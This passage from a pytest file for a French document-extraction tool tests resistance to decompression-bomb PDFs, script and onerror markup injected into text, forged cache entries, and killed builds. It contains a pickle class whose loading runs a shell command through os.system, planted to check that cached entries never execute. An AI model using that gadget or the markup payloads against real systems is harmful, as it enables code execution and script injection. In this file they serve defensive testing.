    assert errors[0].endswith(" within 3 s (--worker-timeout)")
    assert folder_bytes(out) == SENTINEL_FILES


# ----------------------------------------------------------------------------------- decompression bombs


# Runs a command and prints its peak memory (kB) as the last stderr line: this wrapper's only child.
PEAK_MEMORY = """
import resource, subprocess, sys
code = subprocess.run(sys.argv[1:]).returncode
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
sys.exit(code)
"""


def test_a_pdf_inflating_to_1_5_gb_is_refused_in_under_500_mb(tmp_path: Path) -> None:
    """A 1.5 MB PDF whose page stream inflates to 1.5 GB, read by `extract` in a process of its own."""
    bomb = write_bomb_pdf(tmp_path / "liste_bombe.pdf", 1536 * 1024 * 1024)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    out = previous_output(tmp_path)
    extract = [str(PROJECT_ROOT / "cli.py"), "extract", str(bomb), "--out", str(out)]
    command = [sys.executable, "-c", PEAK_MEMORY, sys.executable, *extract]
    finished = subprocess.run(command, capture_output=True, text=True, timeout=120)
    *lines, peak_kb = finished.stderr.splitlines()
    assert finished.returncode == 2, finished.stderr
    assert finished.stdout == ""
    [line] = lines
    assert line.startswith(f"error: {bomb}: ") and "inflates past 256 MB (--max-stream-mb)" in line
    assert int(peak_kb) / 1024 < 500, peak_kb
    assert folder_bytes(out) == SENTINEL_FILES


def test_a_brochure_pdf_bomb_in_the_manifest_is_refused_naming_it(raw_dir: Path, tmp_path: Path) -> None:
    """The practice-sheet reader opens PDFs on its own path: the cap (here 1 MB) holds there too."""
    brochure = "assises_integration_locale_fiches.pdf"
    raw = raw_copy(raw_dir, tmp_path, brochure)
    replace_source_file(raw, brochure, write_bomb_pdf(tmp_path / "bomb.pdf", 8 * 1024 * 1024).read_bytes())
    result = build_refused(raw, tmp_path, "--max-stream-mb", "1", "--workers", "1")
    assert_refused(result, brochure, "inflates past 1 MB", "--max-stream-mb")


# ----------------------------------------------------------------------------------- hostile text


def test_markup_in_document_text_is_escaped_in_the_html_report(raw_dir: Path, tmp_path: Path) -> None:
    """A copy of the AMIF text whose first project carries script and img-onerror markup."""
    text = (raw_dir / AMIF_TEXT).read_text(encoding="utf-8")
    script, image = "<script>alert(1)</script>", "<img src=x onerror=alert(2)>"
    title = "Ateliers autour de la naissance -"
    summary = "L'organisation d'ateliers dans des locaux"
    assert title in text and summary in text
    text = text.replace(title, f"Ateliers {script} autour de la naissance -", 1)
    text = text.replace(summary, f"{script} {image} {summary}", 1)
    hostile = tmp_path / "liste_piegee.txt"
    hostile.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    assert cli("extract", str(hostile), "--out", str(out)).exit_code == 0

    html = (out / "validation_report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "onerror=alert(2)>" not in html
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt; L&#x27;organisation"
    assert escaped in html


# ----------------------------------------------------------------------------------- interrupted build

# Runs `cli.py` in a child process that stops at one moment of the output write and says so on stderr,
# so that the SIGKILL lands exactly there: polling for the staging folder from outside misses it on a
# busy machine, the write taking a few milliseconds. Nothing else of the build is changed.
PAUSING_CLI = """
import os, runpy, sys, time
from pathlib import Path

import amif_extract.write as write

def pause():
    print("<<paused>>", file=sys.stderr, flush=True)
    time.sleep(600)

if os.environ["PAUSE_AT"] == "staged":
    swap_in = write._swap_in

    def paused_swap_in(staging, out_dir):
        pause()
        swap_in(staging, out_dir)

    write._swap_in = paused_swap_in
else:
    rename = Path.rename

    def paused_rename(self, target):
        renamed = rename(self, target)
        if str(target).endswith(".previous"):
            pause()
        return renamed

    Path.rename = paused_rename
sys.argv = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


def kill_at_signal_line(command: list[str], env: dict[str, str], is_signal: Callable[[str], bool]) -> None:
    """Start `command`, SIGKILL it once it prints a stderr line for which `is_signal` holds."""
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env=env) as child:
        assert child.stderr is not None
        for line in child.stderr:
            if is_signal(line):
                break
        else:
            pytest.fail(f"the build ended (exit {child.wait()}) without reaching the kill point")
        child.send_signal(signal.SIGKILL)
        assert child.wait(timeout=30) == -signal.SIGKILL


@pytest.mark.parametrize("moment", ["extracting", "staged", "between_renames"])
def test_a_killed_build_leaves_the_previous_output_and_the_next_build_cleans_up(
    raw_dir: Path, tmp_path: Path, moment: str
) -> None:
    """SIGKILL while reading documents, with every new file staged, or between the swap's two renames."""
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)  # the write is the same whatever was read
    out = previous_output(tmp_path)
    arguments = ["build", "--raw", str(raw), "--out", str(out)]
    env = {**os.environ, "PAUSE_AT": moment}  # with this test's own cache (`own_cache`)
    cli_path = str(PROJECT_ROOT / "cli.py")

    if moment == "extracting":
        kill_at_signal_line([sys.executable, cli_path, *arguments], env, lambda line: "extracting" in line)
    else:
        command = [sys.executable, "-c", PAUSING_CLI, cli_path, *arguments]
        kill_at_signal_line(command, env, lambda line: line.strip() == "<<paused>>")

    [staging] = [name for name in leftovers(out) if name.startswith(".out.staging-")] or [None]
    if moment == "between_renames":
        assert not out.exists()  # the state `recover_interrupted_swap` repairs
        assert folder_bytes(out.with_name("out.previous")) == SENTINEL_FILES
        assert staging is not None
    else:
        assert folder_bytes(out) == SENTINEL_FILES
        assert (staging is not None) == (moment == "staged")
    if staging is not None:  # every new file was written before the kill
        assert "validation_report.html" in folder_bytes(tmp_path / staging)

    rebuild = [sys.executable, cli_path, "--quiet", *arguments]
    finished = subprocess.run(rebuild, capture_output=True, text=True, env=env, timeout=120)
    assert finished.returncode == 0, finished.stderr
    assert leftovers(out) == []
    [convention] = csv_rows(out / "conventions.csv")
    assert (convention["organisation"], convention["year"]) == ("ASTI", "2021")
    assert "sentinel" not in (out / "amif_projects.csv").read_text(encoding="utf-8")


# ----------------------------------------------------------------------------------- orphan workers


def repeated_pdf(source: Path, copies: int, destination: Path) -> Path:
    """`source`'s pages `copies` times over: a long PDF of real pages (as `benchmarks/run.py` makes)."""
    reader = PdfReader(source)
    writer = PdfWriter()
    for _ in range(copies):
        for page in reader.pages:
            writer.add_page(page)
    writer.write(destination)
    return destination


def running_processes() -> dict[int, int]:
    """Every live (not zombie) process and its parent, read from /proc."""
    parents = {}
    for stat_file in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat_file.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue  # ended while being read
        if fields[0] not in ("Z", "X"):
            parents[int(stat_file.parent.name)] = int(fields[1])
    return parents


def descendants(pid: int) -> set[int]:
    parents = running_processes()
    found: set[int] = set()
    frontier = {pid}
    while frontier:
        frontier = {child for child, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


# Runs `cli.py` with one more thread, as the progress bar's on a terminal: the pool then comes from
# the fork server, whose workers are not the build's children.
THREADED_CLI = """
import runpy, sys, threading, time
threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
sys.argv = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


@pytest.mark.parametrize("start", ["fork", "forkserver"])
def test_pool_workers_end_within_seconds_when_the_build_is_killed(
    raw_dir: Path, tmp_path: Path, start: str
) -> None:
    """SIGKILL of `extract --workers 2` on a 130-page PDF while both workers parse it."""
    long_pdf = repeated_pdf(raw_dir / AMIF_PDF, 10, tmp_path / "liste_longue.pdf")
    command = [sys.executable, str(PROJECT_ROOT / "cli.py"), "extract", str(long_pdf)]
    command += ["--out", str(tmp_path / "out"), "--workers", "2"]
    if start == "forkserver":
        command[1:1] = ["-c", THREADED_CLI]
    expected = 2 if start == "fork" else 4  # the workers; and the fork server and resource tracker
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as build:
        assert build.stderr is not None
        for line in build.stderr:
            if "extracting" in line:
                break
        deadline = time.monotonic() + 60
        while len(started := descendants(build.pid)) < expected and time.monotonic() < deadline:
            time.sleep(0.05)
        assert len(started) >= expected, started
        build.send_signal(signal.SIGKILL)
        assert build.wait(timeout=30) == -signal.SIGKILL
    deadline = time.monotonic() + 5
    while started & set(running_processes()) and time.monotonic() < deadline:
        time.sleep(0.05)
    orphans = started & set(running_processes())
    for pid in orphans:  # end them here, so that a failure leaves no process parsing on
        os.kill(pid, signal.SIGKILL)
    assert orphans == set()


# ----------------------------------------------------------------------------------- concurrent writes


def test_two_writes_to_one_output_folder_take_turns(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A second build writing to the same folder waits for the first instead of clearing its staging."""
    out = previous_output(tmp_path)
    first_staged, release_first = threading.Event(), threading.Event()
    swap_in = write._swap_in

    def swap_in_pausing_the_first(staging: Path, out_dir: Path) -> None:
        if threading.current_thread().name == "first":
            first_staged.set()
            assert release_first.wait(timeout=30)
        swap_in(staging, out_dir)

    monkeypatch.setattr(write, "_swap_in", swap_in_pausing_the_first)
    errors: list[BaseException] = []

    def writer(files: dict[str, bytes]) -> None:
        try:
            write.write_output_folder(out, files)
        except BaseException as error:  # reported by the assertion below, not lost in the thread
            errors.append(error)

    first_files = {**SENTINEL_FILES, "amif_projects.csv": b"project_id\nfirst\n"}
    second_files = {**SENTINEL_FILES, "amif_projects.csv": b"project_id\nsecond\n"}
    first = threading.Thread(target=writer, args=(first_files,), name="first")
    second = threading.Thread(target=writer, args=(second_files,), name="second")
    first.start()
    assert first_staged.wait(timeout=30)
    second.start()
    second.join(timeout=0.5)
    assert second.is_alive()  # waiting for the first write's lock...
    [staging] = [name for name in leftovers(out) if name.startswith(".out.staging-")]
    staged = write.with_outputs_record(first_files)
    assert folder_bytes(tmp_path / staging) == staged  # ...without clearing its staging folder
    release_first.set()
    first.join(timeout=30)
    second.join(timeout=30)
    assert errors == []
    assert folder_bytes(out) == write.with_outputs_record(second_files)
    assert leftovers(out) == []


# ----------------------------------------------------------------------------------- check and diff


def cut_swap(out: Path) -> Path:
    """The state a build killed between its swap's two renames leaves: only `out.previous`."""
    previous = out.with_name("out.previous")
    out.rename(previous)
    return previous


def test_check_restores_an_output_a_cut_swap_left_aside(own_output: tuple[Path, Path]) -> None:
    raw, out = own_output
    before = folder_bytes(out)
    cut_swap(out)
    result = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
    data = json.loads(result.stdout)
    assert data["notes"] == [f"{out} restored from {out}.previous, left by an interrupted build"]
    assert (result.exit_code, data["output_differences"]) == (0, [])
    assert folder_bytes(out) == before and leftovers(out) == []


def test_diff_restores_an_output_a_cut_swap_left_aside(own_output: tuple[Path, Path], tmp_path: Path) -> None:
    _, out = own_output
    other = tmp_path / "other"
    shutil.copytree(out, other)
    cut_swap(out)
    result = cli("diff", str(other), str(out))
    assert result.exit_code == 0, result.stderr
    assert f"note: {out} restored from {out}.previous, left by an interrupted build" in result.stdout
    assert result.stdout.endswith("no differences in the files read (see the notes)\n")
    assert leftovers(out) == []


def test_diff_names_an_aside_output_it_cannot_restore(tmp_path: Path) -> None:
    """Written before the record (older version): diff does not take it for its own; it says where it is."""
    out = previous_output(tmp_path)
    previous = cut_swap(out)
    result = cli("diff", str(previous), str(out))
    assert_refused(result, str(out), "build folder not found", f"{previous} holds an earlier build")
    assert folder_bytes(previous) == SENTINEL_FILES


def test_diff_of_raw_folders_says_the_edited_text_was_not_read(raw_dir: Path, tmp_path: Path) -> None:
    """The AMIF text edited, its PDF unchanged: a build reads the PDF, and diff says so."""
    old = raw_copy(raw_dir, tmp_path, AMIF_PDF, AMIF_TEXT)
    new = tmp_path / "edited"
    shutil.copytree(old, new)
    text = (new / AMIF_TEXT).read_bytes()
    assert text.count("94 092.97€".encode()) == 1
    replace_source_file(new, AMIF_TEXT, text.replace("94 092.97€".encode(), "94 092.98€".encode()))
    result = cli("diff", str(old), str(new), "--table", "amif_projects")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[2:5] == [
        f"note: {AMIF_TEXT} differs between the two folders, but no build reads it",
        f"note: read {AMIF_PDF} for document amif_projets_cofinances; {AMIF_TEXT} was not compared"
        " (a build reads one file per document, the PDF where there is one)",
        "amif_projects: 0 added, 0 removed, 0 changed, 38 unchanged (rows matched by project_id)",
    ]
    assert result.stdout.endswith("no differences in the files read (see the notes)\n")


def test_check_compares_the_record_of_outputs_like_any_output(own_output: tuple[Path, Path]) -> None:
    """The record is part of what a build writes: a folder without it is out of date, like a lost table."""
    raw, out = own_output
    passed = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
    assert passed.exit_code == 0, passed.stdout
    (out / write.OUTPUTS_RECORD).unlink()
    (out / ".gitkeep").write_bytes(b"")  # other hidden files are not outputs, as before
    result = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
    assert result.exit_code == 1
    differences = json.loads(result.stdout)["output_differences"]
    assert differences == [{"file": f"{out}/{write.OUTPUTS_RECORD}", "line": None, "status": "missing"}]


# ----------------------------------------------------------------------------------- cache


class RunsACommand:
    """What an attacker plants: a pickle whose loading runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return (os.system, (self.command,))


def plant_in_every_entry(cache: Path, planted: Callable[[str], bytes]) -> int:
    entries = sorted(cache.glob("*/*.json"))
    for entry in entries:
        entry.write_bytes(planted(entry.stem))
    return len(entries)


def forged_json_entry(key: str, marker: Path) -> bytes:
    """A well-formed entry (right header, key and sha256) whose JSON names a type that runs a command."""
    forged = {"$t": "record", "type": "posix.system", "v": {"command": f"touch {marker}"}}
    payload = json.dumps({"result": forged, "extraction": forged}).encode()
    header = json.dumps({"key": key, "sha256": hashlib.sha256(payload).hexdigest()}).encode()
    return CACHE_FORMAT + header + b"\n" + payload


@pytest.mark.parametrize("planted", ["pickle-old-header", "pickle-new-header", "forged-json"])
def test_a_planted_cache_entry_runs_nothing_and_the_build_is_the_same(
    raw_dir: Path, tmp_path: Path, own_cache: Path, planted: str
) -> None:
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE, AMIF_TEXT)
    marker = tmp_path / "owned"
    attack = pickle.dumps(RunsACommand(f"touch {marker}"))
    plants: dict[str, Callable[[str], bytes]] = {
        "pickle-old-header": lambda key: b"amif-extract-cache 1\n" + attack,
        "pickle-new-header": lambda key: CACHE_FORMAT + attack,
        "forged-json": lambda key: forged_json_entry(key, marker),
    }
    assert cli("build", "--raw", str(raw), "--out", str(tmp_path / "first")).exit_code == 0
    assert plant_in_every_entry(own_cache, plants[planted]) == 3  # two documents and the outputs

    result = runner.invoke(app, ["build", "--raw", str(raw), "--out", str(tmp_path / "second")])
    assert result.exit_code == 0, result.stderr
    assert not marker.exists()
    assert folder_bytes(tmp_path / "second") == folder_bytes(tmp_path / "first")
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 3, result.stderr
    assert all("ignoring cache entry" in line and "rebuilding it" in line for line in warnings)
    # ...and the rebuilt entries are good ones: a third build warns of nothing.
    third = runner.invoke(app, ["build", "--raw", str(raw), "--out", str(tmp_path / "third")])
    assert third.exit_code == 0 and "warning" not in third.stderr


@pytest.mark.parametrize("unsafe", ["world-writable", "group-writable", "another-owner"])
def test_a_cache_folder_others_can_write_is_refused(raw_dir: Path, tmp_path: Path, unsafe: str) -> None:
    cache = tmp_path / "shared-cache"
    cache.mkdir()
    if unsafe == "another-owner":
        os.chown(cache, 65534, 65534)  # nobody: the tests run as root, who may give a folder away
    else:
        cache.chmod(0o777 if unsafe == "world-writable" else 0o770)
    result = extract_refused(tmp_path, raw_dir / WEB_PAGE, "--cache-dir", str(cache))
    line = assert_refused(result, str(cache), "cache folder")
    assert ("another user" if unsafe == "another-owner" else "writable by others") in line
    assert list(cache.iterdir()) == []
    # --no-cache neither reads nor checks it.
    assert (
        cli(
            "extract",
            str(raw_dir / WEB_PAGE),
            "--out",
            str(tmp_path / "o"),
            "--cache-dir",
            str(cache),
            "--no-cache",
        ).exit_code
        == 0
    )
    assert list(cache.iterdir()) == []
